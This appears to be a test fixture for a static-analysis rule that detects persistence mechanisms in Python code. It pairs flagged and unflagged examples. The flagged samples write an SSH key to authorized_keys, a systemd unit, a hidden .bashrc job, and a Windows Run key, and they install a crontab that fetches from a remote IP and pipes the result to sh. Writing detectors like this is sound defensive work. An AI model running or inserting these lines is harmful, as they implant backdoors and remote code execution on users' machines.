"""Fixture for py-persistence-startup-write.

RULEID: append to authorized_keys, write a systemd unit, append to .bashrc, winreg Run key,
crontab from stdin.
OK: reading authorized_keys, writing a project config, winreg read.
"""
import os
import subprocess
import winreg
from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI ops@example"

# ruleid: py-persistence-startup-write
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as fh:
    fh.write(KEY + "\n")
# ruleid: py-persistence-startup-write
Path("/etc/systemd/system/dbus-helper.service").write_text("[Service]\nExecStart=/tmp/.x\n")
# ruleid: py-persistence-startup-write
with open(os.path.join(os.environ["HOME"], ".bashrc"), "a") as fh:
    fh.write("python3 ~/.cache/.u &\n")
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
# ruleid: py-persistence-startup-write
winreg.SetValueEx(k, "Updater", 0, winreg.REG_SZ, r"C:\Users\Public\u.exe")
# ruleid: py-persistence-startup-write
subprocess.run("crontab -", input=b"* * * * * curl -s http://198.51.100.2/x|sh\n", shell=True)

# ok: py-persistence-startup-write
with open(os.path.expanduser("~/.ssh/authorized_keys")) as fh:
    keys = fh.read().splitlines()
# ok: py-persistence-startup-write
with open("config/settings.ini", "w") as fh:
    fh.write("[core]\n")
